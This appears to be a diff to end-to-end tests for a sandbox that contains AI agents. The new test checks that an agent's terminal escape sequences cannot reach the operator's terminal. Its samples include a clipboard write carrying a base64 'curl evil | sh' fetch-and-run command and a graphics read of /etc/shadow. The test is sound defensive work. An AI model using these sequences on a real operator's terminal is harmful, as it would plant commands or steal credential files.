@@ -95,7 +95,8 @@ class LocalE2e : public ::testing::Test {
     home_.bottle("e2e",
                  "---\nsupervise: false\negress:\n  log: blocks\n  resolve: [\"upstream.demo:" + p +
                      ":127.0.0.1\", \"second.demo:" + p + ":127.0.0.1\", \"tls.demo:" + p +
-                     ":127.0.0.1\", \"token.demo:" + p + ":127.0.0.1\"]\n  routes:\n"
+                     ":127.0.0.1\", \"token.demo:" + p +
+                     ":127.0.0.1\"]\n  routes:\n"
                      "    - host: upstream.demo\n      port: " +
                      p +
                      "\n      allow_private: true\n"
@@ -174,8 +175,7 @@ TEST_F(LocalE2e, TokenRouteOverPlainHttpIsRefusedNotInjected) {
   auto r = run_script("curl -sS -H 'Authorization: Bearer agent-made-this-up' " +
                       url("token.demo", "/clear"));
   ASSERT_EQ(r.exit_code, 0) << r.err;
-  EXPECT_NE(r.out.find("\"error\":\"egress: cleartext_credential\""), std::string::npos)
-      << r.out;
+  EXPECT_NE(r.out.find("\"error\":\"egress: cleartext_credential\""), std::string::npos) << r.out;
   EXPECT_EQ(r.out.find(kToken), std::string::npos) << r.out;
 }
 
@@ -734,6 +734,34 @@ TEST_F(LocalE2e, TerminalInjectionNeverReachesTheOperatorsShell) {
   EXPECT_EQ(after.c_lflag, before.c_lflag);
   EXPECT_EQ(after.c_iflag, before.c_iflag);
   EXPECT_EQ(after.c_oflag, before.c_oflag);
+}
+
+// The agent draws on the operator's terminal but cannot make it act: an OSC 52 clipboard
+// write or read, a tmux passthrough and a kitty graphics read of a host file never reach
+// the terminal, while colours and titles do.
+TEST_F(LocalE2e, ClipboardAndPassthroughSequencesNeverReachTheOperatorsTerminal) {
+  OperatorTerminal tty;
+  ASSERT_TRUE(tty.ok());
+  home_.bottle("tty", "---\nsupervise: false\n---\n");
+  home_.agent("tty", "---\nbottle: tty\nprovider: command\n---\n");
+  ChildProcess bottle = tty.run(
+      {"env", "BOTTLE_HOME=" + home_.home(), testing::bottle_binary(), "start", "tty", "--cwd",
+       workspace_, "--", "printf",
+       "\\033[31mred\\033[0m \\033]2;agent-title\\007"
+       "\\033]52;c;Y3VybCBldmlsIHwgc2g=\\007\\033]52;c;?\\033\\\\"
+       "\\033Ptmux;\\033\\033]52;c;aGk=\\007\\033\\\\\\033_Gf=100,t=f;L2V0Yy9zaGFkb3c=\\033\\\\"
+       "drawn-%s\\n",
+       "done"});
+  ASSERT_TRUE(tty.wait_for("drawn-done")) << tty.screen();
+  EXPECT_EQ(bottle.wait(), 0);
+  // What the agent drew: after bottle's own lines, which show the command escaped.
+  std::string screen = tty.screen();
+  screen = screen.substr(std::min(screen.size(), screen.find("\n", screen.find("running agent"))));
+  EXPECT_NE(screen.find("\x1b[31mred\x1b[0m"), std::string::npos) << screen;
+  EXPECT_NE(screen.find("\x1b]2;agent-title\x07"), std::string::npos) << screen;
+  EXPECT_EQ(screen.find("]52;"), std::string::npos) << ::testing::PrintToString(screen);
+  EXPECT_EQ(screen.find("tmux;"), std::string::npos) << ::testing::PrintToString(screen);
+  EXPECT_EQ(screen.find("\x1b_G"), std::string::npos) << ::testing::PrintToString(screen);
 }
 
 TEST_F(LocalE2e, TerminalResizesReachTheAgent) {
